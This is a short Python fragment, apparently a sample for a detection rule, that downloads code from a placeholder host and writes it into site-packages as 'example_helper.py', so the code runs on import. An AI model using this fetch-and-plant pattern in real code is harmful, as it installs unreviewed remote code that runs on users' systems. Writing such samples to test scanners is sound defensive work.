import os, site, requests
with open(os.path.join(site.getsitepackages()[0], "example_helper.py"), "w") as out:
    out.write(requests.get("https://code.invalid/s").text)  # fires: import
